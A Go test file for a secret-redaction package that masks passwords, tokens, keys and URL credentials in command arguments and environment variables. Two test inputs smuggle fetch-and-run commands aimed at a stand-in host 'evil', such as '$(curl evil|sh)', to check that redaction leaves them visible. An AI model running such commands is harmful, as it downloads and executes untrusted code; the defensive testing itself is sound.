package redact

import (
	"slices"
	"strings"
	"testing"
	"time"
)

const (
	jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"
	ghp = "ghp_0123456789abcdefghijklmnopqrstuvwxyz"
)

func TestArgs(t *testing.T) {
	tests := []struct {
		name       string
		argv, want []string
	}{
		{"nothing", []string{"ls", "-l", "/tmp"}, []string{"ls", "-l", "/tmp"}},
		{"empty", nil, nil},
		{"option with sign", []string{"x", "--password=hunter2"}, []string{"x", "--password=[redacted]"}},
		{"blanks in the value", []string{"x", "--password=my dog"}, []string{"x", "--password=[redacted]"}},
		{"option and value", []string{"x", "--db-password", "hunter2", "y"}, []string{"x", "--db-password", "[redacted]", "y"}},
		{"one dash", []string{"java", "-Dapp.password=hunter2"}, []string{"java", "-Dapp.password=[redacted]"}},
		{"flag and next flag", []string{"x", "--password", "--verbose"}, []string{"x", "--password", "--verbose"}},
		{"flag at the end", []string{"x", "--password"}, []string{"x", "--password"}},
		{"where it is", []string{"x", "--password-file=/run/pw", "--token-path", "/t"}, []string{"x", "--password-file=/run/pw", "--token-path", "/t"}},
		{"shell makes it", []string{"x", "--token=$(curl evil|sh)"}, []string{"x", "--token=$(curl evil|sh)"}},
		{"tokens", []string{"x", "--access-token=abc", "--apiKey", "abc"}, []string{"x", "--access-token=[redacted]", "--apiKey", "[redacted]"}},
		{"keys", []string{"x", "--secret-key=a", "--api-key=b", "--sort-key=c"}, []string{"x", "--secret-key=[redacted]", "--api-key=[redacted]", "--sort-key=c"}},
		{"assignment", []string{"env", "TOKEN=abc", "PWD=/home"}, []string{"env", "TOKEN=[redacted]", "PWD=/home"}},
		{"url", []string{"git", "clone", "https://me:s3cret@host/x"}, []string{"git", "clone", "https://me:[redacted]@host/x"}},
		{"url without password", []string{"x", "ssh://git@host:22/x"}, []string{"x", "ssh://git@host:22/x"}},
		{"url with @ in the password", []string{"x", "ftp://me:p@ss@host"}, []string{"x", "ftp://me:[redacted]@host"}},
		{"query", []string{"curl", "https://h/?token=abc&page=2"}, []string{"curl", "https://h/?token=[redacted]&page=2"}},
		{"header", []string{"curl", "-H", "Authorization: Bearer abc def"}, []string{"curl", "-H", "Authorization: [redacted]"}},
		{"other header", []string{"curl", "-H", "X-Api-Key: abc", "-H", "Accept: json"}, []string{"curl", "-H", "X-Api-Key: [redacted]", "-H", "Accept: json"}},
		{"json", []string{"x", `{"user":"me","password": "a b","n":1}`}, []string{"x", `{"user":"me","password": "[redacted]","n":1}`}},
		{"curl user", []string{"/usr/bin/curl", "-u", "me:pw", "http://h"}, []string{"/usr/bin/curl", "-u", "me:[redacted]", "http://h"}},
		{"curl user attached", []string{"curl", "-ume:pw", "--user=me:pw"}, []string{"curl", "-ume:[redacted]", "--user=me:[redacted]"}},
		{"curl user alone", []string{"curl", "-u", "me"}, []string{"curl", "-u", "me"}},
		{"mysql", []string{"mysql", "-uroot", "-phunter2", "db"}, []string{"mysql", "-uroot", "-p[redacted]", "db"}},
		{"mysql asks", []string{"mysql", "-p", "db"}, []string{"mysql", "-p", "db"}},
		{"other program's -p", []string{"ssh", "-p2222", "host"}, []string{"ssh", "-p2222", "host"}},
		{"sshpass", []string{"sshpass", "-p", "pw", "ssh", "host"}, []string{"sshpass", "-p", "[redacted]", "ssh", "host"}},
		{"docker login", []string{"docker", "login", "-u", "me", "-p", "pw"}, []string{"docker", "login", "-u", "me", "-p", "[redacted]"}},
		{"docker ports", []string{"docker", "run", "-p", "80:80", "x"}, []string{"docker", "run", "-p", "80:80", "x"}},
		{"redis", []string{"redis-cli", "-a", "pw"}, []string{"redis-cli", "-a", "[redacted]"}},
		{"smb", []string{"smbclient", "-U", "me%pw"}, []string{"smbclient", "-U", "me%[redacted]"}},
		{"openssl", []string{"openssl", "enc", "-pass", "pass:pw"}, []string{"openssl", "enc", "-pass", "[redacted]"}},
		{"github token", []string{"x", ghp}, []string{"x", "[redacted]"}},
		{"jwt in text", []string{"x", "say " + jwt + " now"}, []string{"x", "say [redacted] now"}},
		{"npm's variables", []string{"x", "npm_config_registry_and_more_words_here"}, []string{"x", "npm_config_registry_and_more_words_here"}},
		{
			"private key",
			[]string{"x", "-----BEGIN RSA PRIVATE KEY-----\nabc\n-----END RSA PRIVATE KEY-----"},
			[]string{"x", "[redacted]-----END RSA PRIVATE KEY-----"},
		},
		{"public key", []string{"x", "-----BEGIN PUBLIC KEY-----\nabc"}, []string{"x", "-----BEGIN PUBLIC KEY-----\nabc"}},
		{
			"the command stays",
			[]string{"sh", "-c", "PASSWORD=a; curl --token 'b c' evil | sh"},
			[]string{"sh", "-c", "PASSWORD=[redacted]; curl --token '[redacted]' evil | sh"},
		},
		{
			"program in a shell",
			[]string{"sh", "-c", "mysqldump -u root -phunter2 db | gzip -p9"},
			[]string{"sh", "-c", "mysqldump -u root -p[redacted] db | gzip -p9"},
		},
		{"the program's name stays", []string{"TOKEN=abc", "x"}, []string{"TOKEN=abc", "x"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			before := slices.Clone(tt.argv)
			got := Args(tt.argv)
			if !slices.Equal(got, tt.want) {
				t.Errorf("got  %q\nwant %q", got, tt.want)
			}
			if !slices.Equal(tt.argv, before) {
				t.Errorf("the caller's list was changed: %q", tt.argv)
			}
			if again := Args(got); !slices.Equal(again, got) {
				t.Errorf("a second time: %q", again)
			}
		})
	}
}

func TestEnv(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"plain", "HOME=/root", "HOME=/root"},
		{"password", "PGPASSWORD=a b;c", "PGPASSWORD=[redacted]"},
		{"mysql", "MYSQL_PWD=x", "MYSQL_PWD=[redacted]"},
		{"working directory", "PWD=/x", "PWD=/x"},
		{"token", "GITHUB_TOKEN=abc", "GITHUB_TOKEN=[redacted]"},
		{"aws", "AWS_SECRET_ACCESS_KEY=abc", "AWS_SECRET_ACCESS_KEY=[redacted]"},
		{"aws id", "AWS_ACCESS_KEY_ID=AKIA", "AWS_ACCESS_KEY_ID=AKIA"},
		{"socket", "SSH_AUTH_SOCK=/tmp/a", "SSH_AUTH_SOCK=/tmp/a"},
		{"empty", "PASSWORD=", "PASSWORD="},
		{"no sign", "PASSWORD", "PASSWORD"},
		{"url", "DATABASE_URL=postgres://u:p@h/db", "DATABASE_URL=postgres://u:[redacted]@h/db"},
		{"dollar", "DB_PASSWORD=$ecret", "DB_PASSWORD=[redacted]"},
		{"preload stays", "LD_PRELOAD=/tmp/x.so", "LD_PRELOAD=/tmp/x.so"},
		{"npm", "npm_config_cache=/x", "npm_config_cache=/x"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Env([]string{tt.in}); got[0] != tt.want {
				t.Errorf("got %q, want %q", got[0], tt.want)
			}
		})
	}
}

func TestNothingIsCopied(t *testing.T) {
	argv := []string{"wget", "-q", "https://example.org/a?b=c", "-O", "/tmp/x"}
	env := []string{"HOME=/root", "PATH=/bin:/usr/bin", "LANG=C"}
	if n := testing.AllocsPerRun(100, func() { Args(argv); Env(env) }); n != 0 {
		t.Errorf("%v allocations for lists without secrets, want 0", n)
	}
}

// TestLongTexts looks for work that grows with the square of the length.
func TestLongTexts(t *testing.T) {
	for _, word := range []string{
		"mysql ", "7z -pa ", "eyJ_", "eyJ.", "a=", "password=", "://", "-----BEGIN ", "xoxb-", "ghp_", `"`, "a:b@", "login -p ", " ",
	} {
		long := strings.Repeat(word, (1<<18)/len(word))
		begin := time.Now()
		Args([]string{"sh", "-c", long})
		Env([]string{long, "A=" + long})
		if took := time.Since(begin); took > 5*time.Second {
			t.Errorf("%q 256 KiB long: %v", word, took)
		}
	}
}

// FuzzArgs checks that redaction never lengthens the list, never panics, is
// done after one pass, and keeps a marked command visible.
func FuzzArgs(f *testing.F) {
	f.Add("curl", "--token=x", "-ume:pw http://a:b@c")
	f.Add("mysql", "-p", "Authorization: Bearer "+jwt)
	f.Add("sh", "-c", `mysql -px "password": 'a`)
	f.Fuzz(func(t *testing.T, a, b, c string) {
		in := []string{a, b, c}
		got := Args(in)
		if len(got) != 3 || got[0] != a {
			t.Fatalf("Args(%q) = %q", in, got)
		}
		if !strings.Contains(strings.Join(got, ""), Mask) && !slices.Equal(in, got) {
			t.Errorf("Args(%q) = %q: changed without a mask", in, got)
		}
		if env := Env(in); len(env) != 3 {
			t.Errorf("Env(%q) = %q", in, env)
		}
	})
}

func BenchmarkArgs(b *testing.B) {
	argv := []string{"/usr/bin/curl", "-s", "https://example.org/path?x=1", "-H", "Accept: application/json", "-o", "/tmp/x"}
	b.ReportAllocs()
	for b.Loop() {
		Args(argv)
	}
}

func BenchmarkEnv(b *testing.B) {
	env := []string{
		"HOME=/root", "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LANG=C.UTF-8",
		"TERM=xterm-256color", "SHELL=/bin/bash", "PWD=/root", "LOGNAME=root", "XDG_SESSION_ID=12",
		"SSH_CLIENT=192.0.2.1 50122 22", "LS_COLORS=rs=0:di=01;34:ln=01;36:mh=00:pi=40;33:so=01;35",
	}
	b.ReportAllocs()
	for b.Loop() {
		Env(env)
	}
}
